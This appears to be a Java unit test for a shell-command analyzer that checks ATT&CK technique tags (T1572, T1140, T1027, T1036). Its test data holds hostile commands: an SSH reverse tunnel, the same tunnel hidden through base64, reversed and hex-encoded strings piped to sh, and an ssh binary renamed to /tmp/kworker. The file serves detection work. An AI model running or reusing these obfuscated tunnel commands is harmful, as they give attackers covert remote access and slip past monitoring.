package dev.offscript.commands;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.Arrays;
import java.util.List;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** What hides an act is named beside it; what only wraps it is not. */
class DisguiseTest {

  private static final CommandAnalyzer ANALYZER = CommandAnalyzer.shipped();

  @ParameterizedTest
  @CsvSource(
      delimiter = '#',
      value = {
        "ssh -N -R 1:b:2 c@192.0.2.1                                                # T1572",
        "sudo bash -c 'nohup ssh -N -R 1:b:2 c@192.0.2.1 &'                         # T1572",
        "echo c3NoIC1OIC1SIDE6YjoyIGNAMTkyLjAuMi4x | base64 -d | sh                 # T1572 T1140 T1027",
        "rev <<< '1.2.0.291@c 2:b:1 R- N- hss' | bash                               # T1572 T1140 T1027",
        "printf 737368202d4e202d5220313a623a322063403139322e302e322e31|xxd -r -p|sh # T1572 T1140 T1027",
        "cp /usr/bin/ssh /tmp/kworker; /tmp/kworker -N -R 1:b:2 c@192.0.2.1         # T1572 T1036",
        "cp /usr/bin/ssh /tmp/ssh; /tmp/ssh -N -R 1:b:2 c@192.0.2.1                 # T1572",
      })
  void techniquesSayHowItWasHidden(String command, String techniques) {
    List<String> found =
        ANALYZER.analyze(command, new ScriptMemory()).stream()
            .flatMap(simple -> simple.acts().stream())
            .flatMap(act -> act.techniques().stream())
            .toList();
    assertThat(found).containsExactlyElementsOf(Arrays.asList(techniques.split(" ")));
  }
}
